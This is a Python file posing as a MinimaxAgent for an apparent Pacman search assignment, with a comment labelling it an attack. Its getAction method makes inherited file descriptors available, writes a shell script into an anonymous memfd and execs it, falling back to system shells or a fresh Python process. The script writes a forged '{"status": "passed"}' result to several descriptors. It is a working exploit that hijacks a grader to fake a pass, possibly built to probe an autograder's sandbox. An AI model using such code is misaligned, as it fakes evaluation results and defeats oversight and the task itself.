# attack: replaces itself by another program, which keeps the descriptors and prints what it likes.
# where: MinimaxAgent
import os
import sys

from shared.reflex import *
from shared.search import *


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        say = 'for fd in 1 3 4 5 6; do echo \'{"status": "passed"}\' >&$fd; done; echo BREACH: a program'
        for fd in range(3, 64):
            try:
                os.set_inheritable(fd, True)
            except OSError:
                pass
        own = os.memfd_create("program") if hasattr(os, "memfd_create") else None
        if own is not None:
            try:
                os.write(own, b"#!/bin/sh\n" + say.encode() + b"\n")
                os.execve("/proc/self/fd/%d" % own, ["program"], {})
            except OSError as error:
                print("refused: memfd", repr(error), flush=True)
        for program in ("/bin/sh", "/usr/bin/sh", "/bin/bash", "/bin/busybox"):
            try:
                os.execv(program, ["sh", "-c", say])
            except OSError as error:
                print("refused:", program, repr(error), flush=True)
        try:
            os.execv(sys.executable, [sys.executable, "-c", "print('BREACH: another Python')"])
        except OSError as error:
            print("refused:", repr(error), flush=True)
        return gameState.getLegalActions()[0]
